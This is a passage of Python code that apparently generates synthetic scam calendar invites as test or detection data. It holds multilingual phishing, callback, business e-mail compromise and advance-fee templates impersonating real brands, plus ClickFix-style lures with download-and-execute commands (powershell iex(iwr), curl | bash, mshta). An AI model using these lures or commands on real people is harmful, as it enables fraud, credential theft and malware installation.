    'ko': dict(summ='[CJ대한통운] 주소 불명으로 배송 보류 안내', desc='고객님의 택배({trk})가 주소 불명으로 배송 보류 '
               '중입니다. 아래 링크에서 주소를 수정해 주세요.\n{url}', brand='CJ대한통운'),
    'el': dict(summ='ΕΛΤΑ Courier: εκκρεμεί πληρωμή τελών', desc='Το δέμα σας {trk} βρίσκεται σε αναμονή. Για την '
               'αποστολή απαιτείται πληρωμή τελών 1,99 €.\nΠληρωμή έως {date}: {url}', brand='ΕΛΤΑ Courier'),
}


def fee(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(FEE_EN) if ctx.lang == 'en' else FEE_L[ctx.lang]
    date = (ctx.arrival + dt.timedelta(days=r.randint(1, 3))).strftime('%m/%d/%Y' if ctx.lang == 'en' else '%d/%m/%Y')
    sl = dict(trk=r.choice(['9400 1000 %s %s' % (digits(r, 4), digits(r, 8)), 'JD0%s' % digits(r, 15), '%s%sGB' % (alnum(r, 2, 'ABCDEFGHJKLMNPRSTUVWXYZ'), digits(r, 9)),
                            '3S%s' % alnum(r, 11, 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789')]),
              amt='$%s' % r.choice(['6.85', '4.15', '11.69', '3.95', '27.40', '89.00']), refund=r.choice(['268.40', '412.17', '189', '77']),
              code=digits(r, 10), date=date)
    b = slug(T['brand'])
    dom = sdom(ctx, r.choice([b or 'post', 'parcel', 'toll', 'pay', 'track', 'gov']), r.choice(['redelivery', 'pay', 'help', 'service', 'verify', 'info']))
    url = r.choice(['https://%s%s' % (dom, path(ctx)), 'https://%s.%s/' % (b or 'track', dom), short_url(ctx)])
    sl['url'] = url
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    m['sender'] = sender_for(ctx, [('free', 4), ('compromised', 3), ('vps', 3), ('spoof', 1), ('lookalike', 2), ('edu', 1)],
                             domains={'lookalike': dom.replace('.', '-', 0)})
    m['sender']['name'] = T['brand'] if r.random() < 0.7 else m['sender']['name']
    if ctx.inner == 'saas':
        m['sender'] = account(ctx, 'esp', name=T['brand'], domain=sdom(ctx, b or 'parcel', 'notify', tlds=['.com', '.net', '.info']),
                              local=r.choice(['noreply', 'tracking', 'service']))
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 2, hours=(8, 18), weekend=True)
    e = make_event(ctx, m, summ, desc, start, r.choice([15, 30, 60]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.choice([0, 0, 0, 6, 20])))
    place(ctx, m, e, url, r.choice(['desc', 'desc', 'location', 'url', 'alt']), 'Pay')
    if ctx.inner == 'saas':
        saas_setup(ctx, m)
    return std(ctx, m, e, subject=summ)


def slug(s):
    from common import slug as sl
    return sl(s).replace('-', '')


# ================================================================ 6. credential phishing under big brands
PHISH_EN = [
    dict(brand='Microsoft 365', summ='Password expiry notice for {email}', desc='The password for {email} expires '
         'today. You can keep your current password by confirming it below.\n\nKeep current password: {url}\n\n'
         'Microsoft 365 Admin Center'),
    dict(brand='DocuSign', summ='Please DocuSign: {doc}', desc='{sender} sent you a document to review and sign.\n\n'
         'REVIEW DOCUMENT\n{url}\n\nPlease do not share this email. Access code: {code}'),
    dict(brand='PayPal', summ='Action required: unusual sign-in activity', desc='We noticed a new login to your PayPal '
         'account from an unrecognised device (Windows, Lagos).\nIf this was not you, secure your account within 24 '
         'hours: {url}'),
    dict(brand='Adobe Acrobat', summ='{sender} shared "{doc}" with you', desc='{sender} has shared a PDF via Adobe '
         'Document Cloud.\nOpen: {url}\nThis link expires in 7 days.'),
    dict(brand='Dropbox', summ='Shared folder: {doc}', desc='{sender} invited you to view the folder "{doc}" on '
         'Dropbox.\nView folder: {url}'),
    dict(brand='Chase', summ='Your account has been temporarily limited', desc='Dear customer, we have temporarily '
         'limited online access to your account due to failed verification. Restore access: {url}\nReference {code}'),
    dict(brand='IRS', summ='Notice CP{code4}: action needed on your return', desc='We were unable to process your '
         'tax return. Please verify your identity via ID.me to avoid delays:\n{url}'),
    dict(brand='SharePoint', summ='Voicemail message (00:{sec}) from +1 {ph}', desc='You received a voice message.\n'
         'Listen in SharePoint: {url}\nYour Microsoft 365 team'),
    dict(brand='Microsoft Teams', summ='Mailbox storage full - {email}', desc='Your mailbox has reached 99% of quota. '
         'Incoming messages for {email} will be held. Upgrade storage free of charge:\n{url}'),
]
PHISH_L = {
    'de': dict(brand='Sparkasse', summ='Wichtig: pushTAN-Verfahren läuft am {date} ab', desc='Sehr geehrte Kundin, '
               'sehr geehrter Kunde,\nIhr pushTAN-Verfahren muss aktualisiert werden. Andernfalls wird Ihr '
               'Online-Banking gesperrt.\nJetzt aktualisieren: {url}'),
    'it': dict(brand='Poste Italiane', summ='Il tuo conto BancoPosta è stato sospeso', desc='Gentile cliente,\n'
               'abbiamo rilevato un accesso anomalo. Per riattivare il conto verifica i tuoi dati entro 24 ore:\n{url}'),
    'pl': dict(brand='e-Urząd Skarbowy', summ='Zwrot podatku PIT – potwierdź dane', desc='Szanowny Podatniku,\n'
               'przysługuje Ci zwrot nadpłaty podatku w wysokości 1 284,00 zł. Potwierdź numer rachunku do {date}:\n{url}'),
    'ar': dict(brand='أبشر', summ='تحديث بيانات حسابك في أبشر', desc='عزيزي المستخدم،\nسيتم إيقاف حسابك ما لم تقم '
               'بتحديث بياناتك خلال 24 ساعة.\nتحديث البيانات: {url}'),
    'he': dict(brand='בנק לאומי', summ='חשבונך הוגבל זמנית', desc='לקוח יקר,\nזיהינו ניסיון כניסה חשוד לחשבונך. '
               'לצורך הסרת ההגבלה יש לאמת את פרטיך:\n{url}\nבברכה, שירות הלקוחות'),
    'tw': dict(brand='監理服務網', summ='【監理站】您有一筆交通罰單尚未繳納', desc='您的車輛有一筆違規罰鍰尚未繳納，'
               '請於{date}前完成繳費，逾期將移送強制執行。\n線上繳費：{url}'),
    'zh': dict(brand='腾讯企业邮', summ='邮箱容量已满，请立即升级', desc='尊敬的用户：\n您的企业邮箱 {email} 容量已满，'
               '新邮件将无法接收。请在24小时内完成免费扩容：\n{url}\n企业邮箱管理中心'),
}


def phish(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(PHISH_EN) if ctx.lang == 'en' else PHISH_L[ctx.lang]
    bp = person(r, ctx.lang)
    sl = dict(email=ctx.rcpt, doc=r.choice(['Q3 Remittance Advice', 'Signed NDA - final', 'Invoice_%s' % digits(r, 5),
                                            'Employee Handbook 2025', 'Lease Agreement Rev.2', 'Proposal & Pricing']),
              sender=bp['name'], code=digits(r, 6), code4=r.choice(['2000', '501', '14', '3219']),
              sec=str(r.randint(12, 59)), ph='%03d-%03d-%04d' % (r.randint(201, 989), r.randint(200, 999), r.randint(0, 9999)),
              date=(ctx.arrival + dt.timedelta(days=r.randint(1, 4))).strftime('%d.%m.%Y'))
    b = slug(T['brand']) or 'secure'
    dom = sdom(ctx, r.choice([b, b[:5], 'secure', 'login', 'auth']), r.choice(['verify', 'account', 'portal', 'online', 'docs', 'sign']))
    url = r.choice(['https://%s%s' % (dom, path(ctx)),
                    'https://%s.%s/%s' % (r.choice(['login', 'secure', 'auth', 'www']), dom, alnum(r, 10)),
                    'https://%s.r2.dev/%s.html#%s' % (alnum(r, 14, 'abcdef0123456789'), alnum(r, 6), ctx.rcpt) if r.random() < 0.5 else
                    'https://%s.pages.dev/?e=%s' % (alnum(r, 9, 'abcdefghijklmnopqrstuvwxyz'), ctx.rcpt),
                    'https://ipfs.io/ipfs/Qm%s#%s' % (alnum(r, 44), ctx.rcpt)])
    sl['url'] = url
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    m['sender'] = sender_for(ctx, [('compromised', 4), ('free', 3), ('lookalike', 3), ('spoof', 2), ('vps', 2), ('edu', 2)])
    if r.random() < 0.7:
        m['sender']['name'] = r.choice([T['brand'], T['brand'] + ' via ' + bp['name'], '%s Support' % T['brand'], T['brand']])
    if ctx.inner == 'saas':
        m['sender'] = account(ctx, 'esp', name=T['brand'], domain=sdom(ctx, b, 'notice', tlds=['.com', '.net', '.co', '.us']),
                              local=r.choice(['noreply', 'security', 'dse']))
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 2, hours=(8, 17))
    e = make_event(ctx, m, summ, desc, start, r.choice([15, 30, 30, 60]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.choice([0, 0, 0, 2, 9]), cn=r.random() < 0.5))
    mode = r.choice(['desc', 'desc', 'alt', 'location', 'attach', 'url', 'conference'])
    if mode in ('alt', 'attach', 'url'):
        e['desc'] = desc.replace(url, '').strip()
    place(ctx, m, e, url, mode, sl['doc'])
    if ctx.inner == 'saas':
        saas_setup(ctx, m)
    return std(ctx, m, e, subject=summ)


# ================================================================ 7. callback scams (phone number only)
CALL_EN = [
    dict(brand='Norton 360', summ='Subscription renewed - Invoice #{inv}', desc='Thank you for renewing your Norton 360 '
         'Deluxe plan.\nAmount charged: ${amt}\nPayment method: auto-debit\nIf you did not authorise this renewal, '
         'call our billing desk within 24 hours: {ph}'),
    dict(brand='Geek Squad', summ='Auto-renewal processed: {inv}', desc='Your Geek Squad Total Protection membership '
         'was renewed for another year.\nTotal: ${amt}\nTo cancel or request a refund call {ph} (Mon-Sat 8am-8pm).'),
    dict(brand='PayPal', summ='Invoice from Crypto Exchange Ltd - ${amt} USD', desc='You have a new invoice for ${amt} '
         'USD (Bitcoin purchase). The amount will be debited within 24 hours.\nNot you? Call PayPal billing {ph} to '
         'cancel the transaction.'),
    dict(brand='Microsoft', summ='Windows Defender: license expired - call support', desc='Your Windows security '
         'license has expired and your computer may be at risk.\nCall a certified technician now: {ph}\nReference: {inv}'),
    dict(brand='McAfee', summ='Your McAfee Total Protection order #{inv}', desc='Order summary\nMcAfee Total Protection '
         '(3 years, 10 devices) ........ ${amt}\nIf you wish to cancel this order please contact our support team: {ph}'),
    dict(brand='Amazon', summ='Amazon Prime membership renewal failed', desc='We were unable to charge your card for '
         'Prime membership ($139.00). Your membership and pending orders will be cancelled.\nTo update, speak with an '
         'agent: {ph}'),
]
CALL_L = {
    'es': dict(brand='Norton', summ='Renovación de suscripción - Factura {inv}', desc='Gracias por renovar Norton 360.\n'
               'Importe cobrado: {amt} €\nSi no ha autorizado este cargo, llame a nuestro servicio de facturación: {ph}'),
    'hi': dict(brand='PhonePe', summ='आपका ऑटो-पे ₹{amt} सफल', desc='आपके खाते से ₹{amt} का ऑटो-पे भुगतान किया गया '
               'है।\nयदि यह भुगतान आपने नहीं किया है तो तुरंत हमारी हेल्पलाइन पर कॉल करें: {ph}'),
    'th': dict(brand='Microsoft', summ='ใบแจ้งหนี้การต่ออายุ {inv}', desc='ระบบได้ต่ออายุสมาชิกของคุณแล้ว '
               'ยอดชำระ {amt} บาท\nหากคุณไม่ได้ทำรายการนี้ กรุณาโทร {ph} ภายใน 24 ชั่วโมง'),
    'tr': dict(brand='Norton', summ='Aboneliğiniz yenilendi - Fatura {inv}', desc='Norton 360 aboneliğiniz '
               'yenilenmiştir.\nTutar: {amt} TL\nBu işlemi siz yapmadıysanız {ph} numaralı hattı arayın.'),
    'pl': dict(brand='Geek Squad', summ='Odnowienie subskrypcji – faktura {inv}', desc='Twoja subskrypcja została '
               'odnowiona. Kwota: {amt} zł.\nAby anulować i otrzymać zwrot, zadzwoń: {ph}'),
}


def callback(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(CALL_EN) if ctx.lang == 'en' else CALL_L[ctx.lang]
    ph = phone(ctx, r.choice(['us', 'us_plain'])) if ctx.lang in ('en', 'es', 'tr', 'pl', 'th') or r.random() < 0.5 else \
        '+91 %s' % digits(r, 10)
    if r.random() < 0.3:
        ph = ph.replace('-', ' - ').replace('(', '( ')
    sl = dict(inv='%s%s' % (r.choice(['INV', 'NRT', 'GSQ', '#', 'ORD']), digits(r, 8)),
              amt=r.choice(['399.99', '449.00', '649.98', '299.95', '529.00', '8,499']), ph=ph)
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    kinds = [('free', 8), ('compromised', 2), ('edu', 1), ('vps', 1)]
    if ctx.inner == 'zoom':
        m['sender'] = account(ctx, 'zoom', name=T['brand'] + ' Billing')
        start, tz = when(ctx, 0, 2, hours=(9, 17))
        e = make_event(ctx, m, summ, desc, start, 30, tz=tz, organizer=dict(name=T['brand'] + ' Billing',
                                                                           addr='%s@gmail.com' % person(r, 'en')['local']),
                       attendees=[dict(cn=None, addr=ctx.rcpt)])
        body = 'Hi,\n\n%s Billing is inviting you to a scheduled Zoom meeting.\n\nTopic: %s\n\n%s\n\nJoin Zoom Meeting\n' \
               'https://us05web.zoom.us/j/%s?pwd=%s\n\nMeeting ID: %s\nPasscode: %s\n' % (
                   T['brand'], summ, desc, digits(r, 11), alnum(r, 32), digits(r, 11), digits(r, 6))
        zoom_setup(ctx, m, T['brand'], e['organizer']['addr'], summ)
        m['zoom_type'] = 'meeting_invitation'
        return std(ctx, m, e, subject=summ, body=body)
    m['sender'] = sender_for(ctx, kinds)
    if r.random() < 0.75:
        m['sender']['name'] = r.choice([T['brand'], T['brand'] + ' Billing', T['brand'] + ' Support Team', 'Billing Department'])
    if ctx.inner == 'saas':
        m['sender'] = account(ctx, 'esp', name=T['brand'] + ' Billing', domain=sdom(ctx, 'billing', 'center', tlds=['.com', '.net']),
                              local='invoice')
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 1, hours=(9, 18), weekend=True)
    e = make_event(ctx, m, summ, desc, start, r.choice([30, 60]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.choice([0, 0, 4, 15])))
    if r.random() < 0.3:
        e['location'] = ph
    if ctx.inner == 'saas':
        saas_setup(ctx, m)
    return std(ctx, m, e, subject=summ)


# ================================================================ 8. fake client updates / paste-this-command lures
UPD_EN = [
    dict(summ='Action required before our call: update Teams client', desc='Hi,\nThe meeting uses the new Teams media '
         'engine. If you see a black screen, install the update first:\n{url}\n(TeamsSetup_x64.msi, signed)\nThanks'),
    dict(summ='Zoom: audio driver update required', desc='Your Zoom version is no longer supported for this webinar. '
         'Download the latest Zoom Workplace client before joining:\n{url}'),
    dict(summ='Verification step before joining', desc='To join the secure meeting room, verify you are human:\n'
         '1. Press Windows + R\n2. Paste the following and press Enter:\n   {cmd}\n3. Return to this invitation and '
         'click Join.'),
    dict(summ='Browser certificate expired - meeting cannot start', desc='Your browser needs a certificate update to '
         'display the shared screen. Run the updater: {url}'),
    dict(summ='Interview - technical assessment setup', desc='Before the interview please install our assessment '
         'tool (required for screen share and camera check):\n{url}\nIf the download is blocked, open Terminal and run:\n'
         '{cmd}'),
    dict(summ='Webex: update your meeting plugin', desc='Cisco Webex could not start because the meeting plugin is out '
         'of date. Install the latest plugin: {url}'),
]
UPD_L = {
    'ko': dict(summ='[필수] 회의 전 보안 모듈 업데이트', desc='안녕하세요.\n화상회의 참가를 위해 최신 보안 모듈 '
               '설치가 필요합니다.\n다운로드: {url}\n설치 후 회의에 다시 접속해 주세요.'),
    'ru': dict(summ='Обновите клиент Zoom перед встречей', desc='Добрый день!\nВаша версия Zoom устарела. Перед '
               'подключением установите обновление: {url}\nСпасибо.'),
    'it': dict(summ='Verifica richiesta prima della riunione', desc='Per accedere alla sala riunioni protetta:\n'
               '1. Premi Windows + R\n2. Incolla il comando seguente e premi Invio:\n{cmd}\n3. Torna all\'invito.'),
    'nl': dict(summ='Teams-update vereist voor vergadering', desc='Beste collega,\nDe vergadering gebruikt de nieuwe '
               'Teams-versie. Installeer eerst de update: {url}\nMet vriendelijke groet'),
    'ar': dict(summ='تحديث مطلوب لبرنامج الاجتماعات', desc='مرحباً،\nيجب تحديث برنامج Zoom قبل الانضمام إلى '
               'الاجتماع. قم بتنزيل التحديث من الرابط التالي:\n{url}'),
}


def update(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(UPD_EN) if ctx.lang == 'en' else UPD_L[ctx.lang]
    dom = sdom(ctx, r.choice(['teams', 'zoom', 'msteams', 'webex', 'meet', 'cdn']), r.choice(['update', 'download', 'app', 'live', 'setup']))
    fname = r.choice(['TeamsSetup_x64.msi', 'ZoomInstallerFull.exe', 'Zoom_%s.pkg' % digits(r, 4), 'MeetingUpdate.msix',
                      'setup.dmg', 'WebexPlugin.zip'])
    url = r.choice(['https://%s/download/%s' % (dom, fname), 'https://%s%s' % (dom, path(ctx)),
                    'https://github.com/%s/%s/releases/download/v%d.%d/%s' % (alnum(r, 8, 'abcdefghijklmnopqrstuvwxyz'), alnum(r, 6, 'abcdefghijklmnopqrstuvwxyz'), r.randint(1, 5), r.randint(0, 9), fname),
                    'https://%s.trycloudflare.com/%s' % ('-'.join(alnum(r, r.randint(4, 8), 'abcdefghijklmnopqrstuvwxyz') for _ in range(3)), fname)])
    cmd = r.choice(['mshta https://%s/verify # I am not a robot - ID %s' % (dom, digits(r, 6)),
                    'powershell -w h -nop -c "iex(iwr %s/c.txt)"' % ('https://' + dom),
                    'curl -s https://%s/i.sh | bash' % dom,
                    'cmd /c start /min powershell -ep bypass -c "irm %s|iex"' % ('https://' + dom + '/s')])
    sl = dict(url=url, cmd=cmd)
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    if ctx.inner == 'zoom':
        hp = person(r, ctx.lang)
        m['sender'] = account(ctx, 'zoom', name=hp['name'])
        start, tz = when(ctx, 0, 4, hours=(9, 17))
        e = make_event(ctx, m, summ, desc, start, 45, tz=tz, organizer=dict(name=hp['name'], addr='%s@%s' % (hp['local'], r.choice(['gmail.com', 'outlook.com', 'proton.me']))),
                       attendees=[dict(cn=None, addr=ctx.rcpt)])
        body = '%s is inviting you to a scheduled Zoom meeting.\n\nTopic: %s\nTime: %s\n\nJoin Zoom Meeting\nhttps://us06web.zoom.us/j/%s?pwd=%s\n\n' \
               'Meeting ID: %s\nPasscode: %s\n\n%s\n' % (hp['name'], summ, e['start'].strftime('%b %d, %Y %I:%M %p'),
                                                       digits(r, 11), alnum(r, 32), digits(r, 11), digits(r, 6), desc)
        zoom_setup(ctx, m, hp['name'], e['organizer']['addr'], summ)
        m['zoom_type'] = 'meeting_invitation'
        return std(ctx, m, e, subject='Zoom meeting invitation - %s' % summ, body=body)
    m['sender'] = sender_for(ctx, [('compromised', 4), ('free', 3), ('lookalike', 3), ('vps', 1), ('edu', 1)])
    if ctx.inner == 'saas':
        m['sender'] = account(ctx, 'esp', name='Meeting Services', domain=dom.rsplit('.', 1)[0] + '.com', local='no-reply')
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 5, hours=(9, 17))
    e = make_event(ctx, m, summ, desc, start, r.choice([30, 45, 60]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.choice([0, 1, 3]), cn=True))
    mode = r.choice(['desc', 'desc', 'conference', 'location', 'attach'])
    place(ctx, m, e, url, mode, 'Join meeting')
    if ctx.inner == 'outlook' and r.random() < 0.5:
        e['teams'] = True
    if ctx.inner == 'saas':
        saas_setup(ctx, m)
    return std(ctx, m, e, subject=summ)


# ================================================================ 9. business e-mail compromise
BEC_EN = [
    dict(kind='ceo', summ='Quick task', desc='Are you at your desk? I need you to handle a task for me discreetly. '
         'I am in meetings all afternoon, reply by email only.\n\n{ceo}\nSent from my iPhone'),
    dict(kind='ceo', summ='Confidential - client appreciation', desc='Hi {first},\nI want to surprise some of our '
         'clients with gift cards today. Can you purchase 8 x $200 Apple gift cards? I will reimburse you. Scratch the '
         'back and send me pictures of the codes. Keep this between us for now.\n{ceo}'),
    dict(kind='supplier', summ='Updated remittance details - {supplier}', desc='Dear Accounts Payable,\n\nPlease note '
         'that due to our annual audit our bank details have changed with immediate effect. Kindly update your records '
         'before the next payment run and confirm by return.\n\nBank: {bank}\nAccount name: {supplier}\nIBAN: {iban}\n'
         'SWIFT: {swift}\n\nOutstanding invoices {inv1} and {inv2} should be paid to the new account.\n\nKind regards,\n'
         '{sname}\nCredit Control, {supplier}'),
    dict(kind='payroll', summ='Direct deposit change', desc='Hello,\nI changed banks and would like my salary to go to '
         'my new account from the next pay cycle. Routing: {routing}  Account: {acct} (checking).\nPlease confirm once '
         'updated. Thanks,\n{emp}'),
    dict(kind='wire', summ='Project Falcon - call today', desc='{first},\nWe are closing a confidential acquisition. '
         'Our lawyer {lawyer} will contact you with wire instructions for the deposit ({amt}). Please treat this as '
         'strictly confidential and do not discuss it with anyone else until the announcement.\n{ceo}'),
    dict(kind='supplier', summ='Overdue invoice {inv1} - payment to new account', desc='Hi,\nFollowing our call, '
         'please find the payment instructions for the overdue invoice {inv1} ({amt}). Our previous account is '
         'under review, kindly remit to:\n{bank}\nIBAN {iban} / BIC {swift}\nThanks for your prompt help.\n{sname}'),
    dict(kind='ceo', summ='Are you available?', desc='I need a favor. Text me on my personal number {mob} when you get '
         'this.\n{ceo}'),
]
BEC_L = {
    'de': dict(kind='supplier', summ='Änderung unserer Bankverbindung', desc='Sehr geehrte Damen und Herren,\n'
               'bitte beachten Sie, dass sich unsere Bankverbindung geändert hat. Zahlungen für die offenen Rechnungen '
               '{inv1} und {inv2} bitte ab sofort auf folgendes Konto:\n{bank}\nIBAN: {iban}\nBIC: {swift}\n'
               'Mit freundlichen Grüßen\n{sname}\nBuchhaltung, {supplier}'),
    'fr': dict(kind='ceo', summ='Opération confidentielle', desc='Bonjour {first},\nJe vais avoir besoin de vous pour '
               'un virement urgent dans le cadre d\'une acquisition confidentielle. Merci de ne pas en parler. Maître '
               '{lawyer} vous contactera aujourd\'hui.\n{ceo}'),
    'es': dict(kind='payroll', summ='Cambio de cuenta bancaria para nómina', desc='Hola,\nhe cambiado de banco y '
               'necesito que mi nómina se ingrese en la nueva cuenta a partir de este mes:\nIBAN {iban}\nGracias,\n{emp}'),
    'pt': dict(kind='supplier', summ='Atualização de dados bancários - {supplier}', desc='Prezados,\ninformamos que '
               'nossos dados bancários foram alterados. Favor efetuar o pagamento da fatura {inv1} na nova conta:\n'
               '{bank}\nAgência 0{acct4} Conta {acct}\nAtenciosamente,\n{sname}'),
    'he': dict(kind='ceo', summ='משימה דחופה', desc='היי {first},\nאתה זמין? אני צריך שתטפל במשהו בשבילי בדיסקרטיות. '
               'אני בפגישות כל היום, תענה רק במייל.\n{ceo}'),
    'zh': dict(kind='wire', summ='紧急：今天需要完成一笔付款', desc='{first}你好，\n我正在开会，不方便接电话。公司正在'
               '进行一项保密收购，需要今天向对方支付定金{amt}。律师{lawyer}会把账户信息发给你，请尽快处理，暂时不要告诉'
               '其他人。\n{ceo}'),
}


def bec(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(BEC_EN) if ctx.lang == 'en' else BEC_L[ctx.lang]
    on, odom = org_pick(ctx)          # recipient's own organisation (victim side)
    m['rcpt'] = ctx.rcpt = '%s@%s' % (ctx.rp['local'].replace('_', '.'), odom)
    m['to'] = [(ctx.rcpt_name if r.random() < 0.6 else '', ctx.rcpt)]
    ceo = person(r, ctx.lang)
    supp_on, supp_dom = r.choice(ORGS[ctx.lang] + ORGS['en'])
    sp = person(r, ctx.lang)
    cc = {'de': 'DE', 'fr': 'FR', 'es': 'ES', 'pt': 'PT', 'en': r.choice(['GB', 'IE', 'LT', 'NL']), 'he': 'IL', 'zh': 'HK'}[ctx.lang]
    sl = dict(first=ctx.rcpt_name.split()[0], ceo=ceo['name'], supplier=supp_on, sname=sp['name'],
              bank=r.choice(['Revolut Bank UAB', 'Wise Europe SA', 'Lloyds Bank plc', 'Banco Santander', 'Deutsche Kreditbank',
                             'Bank of China (Hong Kong)']),
              iban='%s%02d %s %s %s %s %s' % (cc, r.randint(10, 99), digits(r, 4), digits(r, 4), digits(r, 4), digits(r, 4), digits(r, 2)),
              swift=alnum(r, 4, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ') + cc + alnum(r, 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'),
              inv1='INV-%s' % digits(r, 5), inv2='INV-%s' % digits(r, 5), routing=digits(r, 9), acct=digits(r, 10),
              acct4=digits(r, 3), emp=person(r, ctx.lang)['name'], lawyer=person(r, ctx.lang)['name'],
              amt=r.choice(['€48,500.00', '$126,300.00', '£37,920.00', '¥860,000']), mob='+1 %s' % digits(r, 10))
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    k = T['kind']
    if k == 'supplier':
        # compromised supplier mailbox or look-alike of supplier domain
        if r.random() < 0.5:
            m['sender'] = sender_for(ctx, [('compromised', 1)], domains={'compromised': supp_dom}, pers=sp)
        else:
            lk = supp_dom.replace('i', 'l', 1) if 'i' in supp_dom.split('.')[0] else supp_dom.split('.')[0] + '-' + r.choice(['accounts', 'finance', 'group']) + '.' + supp_dom.split('.', 1)[1]
            m['sender'] = sender_for(ctx, [('lookalike', 1), ('free', 0.2)], domains={'lookalike': lk}, pers=sp)
        m['sender']['name'] = sp['name']
    elif k == 'payroll':
        ep = person(r, ctx.lang)
        sl['emp'] = ep['name']
        desc = fill(T['desc'], **sl)
        m['sender'] = sender_for(ctx, [('free', 5), ('lookalike', 2)], pers=ep)
        m['sender']['name'] = ep['name']
    else:
        lk = odom.split('.')[0]
        lk = (lk[:-1] + lk[-1] * 2 if r.random() < 0.5 else lk.replace('o', '0', 1) if 'o' in lk else lk + 's') + '.' + odom.split('.', 1)[1]
        m['sender'] = sender_for(ctx, [('free', 5), ('lookalike', 4)], domains={'lookalike': lk}, pers=ceo)
        m['sender']['name'] = ceo['name']
        if m['sender']['kind'] == 'free' and r.random() < 0.4:
            m['sender']['name'] = '%s (CEO)' % ceo['name']
    if r.random() < 0.3 and k != 'supplier':
        m['reply_to'] = (ceo['name'], '%s.%s@%s' % (ceo['rf'], digits(r, 3), r.choice(['gmail.com', 'outlook.com', 'proton.me', 'mail.com'])))
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 2, hours=(9, 16))
    e = make_event(ctx, m, summ, desc, start, r.choice([15, 30]), tz=tz,
                   attendees=[dict(cn=org['name'], addr=org['addr'], partstat='ACCEPTED', rsvp=False),
                              dict(cn=ctx.rcpt_name, addr=ctx.rcpt)])
    if ctx.inner == 'outlook' and r.random() < 0.3:
        e['teams'] = True
    return std(ctx, m, e, subject=summ if ctx.inner in ('lib',) else None)


# ================================================================ 10. advance-fee fraud
AFF_EN = [
    dict(summ='Inheritance claim - final notification', desc='Dear {first},\nI am Barrister {lawyer}, personal attorney '
         'to the late engineer {dead}, who shares the same surname as you. He left a deposit of {amt} with no '
         'next of kin. I propose that we claim the fund together, 50/50.\nReply to my private email {priv} for details.'),
    dict(summ='UN compensation payment approved', desc='Your e-mail was listed among beneficiaries of the UN scam '
         'victims compensation programme. Approved amount: {amt}.\nContact the paying officer {lawyer} at {priv} with '
         'your full name, address and phone number.'),
    dict(summ='Consignment box awaiting delivery', desc='A diplomatic consignment box valued at {amt} registered in your '
         'name is held at the airport. Pay the clearance certificate fee and it will be delivered within 48 hours.\n'
         'Agent: {lawyer} - {priv}'),
    dict(summ='Donation for you', desc='Hello, I am {dead}, a lottery winner. I am donating {amt} to five lucky people '
         'this year and your e-mail was selected. Contact my secretary {priv} to claim.'),
    dict(summ='Business proposal (confidential)', desc='Good day,\nI am {lawyer}, a senior auditor at a bank. I found a '
         'dormant account of {amt} and I need a foreign partner to receive it. You will receive 40%.\n'
         'Please reply to {priv}.'),
]
AFF_L = {
    'ar': dict(summ='تعويض مالي باسمك', desc='عزيزي {first}،\nأنا المحامي {lawyer}. توفي أحد عملائي وترك مبلغ {amt} '
               'بدون وريث. أرغب في التعاون معك لاستلام المبلغ. يرجى الرد على بريدي الخاص {priv}.'),
    'hi': dict(summ='आपके नाम पर विरासत राशि', desc='प्रिय {first},\nमैं बैरिस्टर {lawyer} हूँ। मेरे दिवंगत ग्राहक ने '
               '{amt} की राशि छोड़ी है जिसका कोई उत्तराधिकारी नहीं है। कृपया मेरे निजी ईमेल {priv} पर संपर्क करें।'),
    'el': dict(summ='Κληρονομιά – τελική ειδοποίηση', desc='Αγαπητέ/ή {first},\nΕίμαι ο δικηγόρος {lawyer}. Ένας '
               'πελάτης μου απεβίωσε αφήνοντας {amt} χωρίς κληρονόμο. Επικοινωνήστε μαζί μου στο {priv}.'),
    'tr': dict(summ='Adınıza kayıtlı miras fonu', desc='Sayın {first},\nBen Avukat {lawyer}. Vefat eden müvekkilim '
               'geride {amt} bıraktı ve mirasçısı yok. Detaylar için özel adresime yazın: {priv}'),
    'th': dict(summ='เงินบริจาคสำหรับคุณ', desc='สวัสดี {first}\nฉันคือ {lawyer} ผู้ชนะลอตเตอรี ฉันต้องการบริจาคเงิน '
               '{amt} ให้กับคุณ กรุณาติดต่อเลขานุการของฉันที่ {priv}'),
}


def advance(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(AFF_EN) if ctx.lang == 'en' else AFF_L[ctx.lang]
    lp = person(r, 'en')
    sl = dict(first=ctx.rcpt_name.split()[0], lawyer=r.choice(['Daniel Okoro', 'Mark Anderson', 'Paul Mensah', 'Esq. James Whyte', lp['name']]),
              dead=r.choice(['Robert %s' % ctx.rcpt_name.split()[-1], 'Mrs. Helen Brandt', 'Mavis Wanczyk', 'Dr. Alan Pierce']),
              amt=r.choice(['US$8,500,000.00', '$4.2 million', '€6,300,000', '£2,750,000.00', 'USD 10.5M']),
              priv='%s%s@%s' % (lp['rf'], digits(r, 2), r.choice(['gmail.com', 'outlook.com', 'yahoo.com', 'proton.me', 'mail.com', 'zohomail.com'])))
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    m['sender'] = sender_for(ctx, [('free', 6), ('compromised', 3), ('edu', 3)], pers=lp)
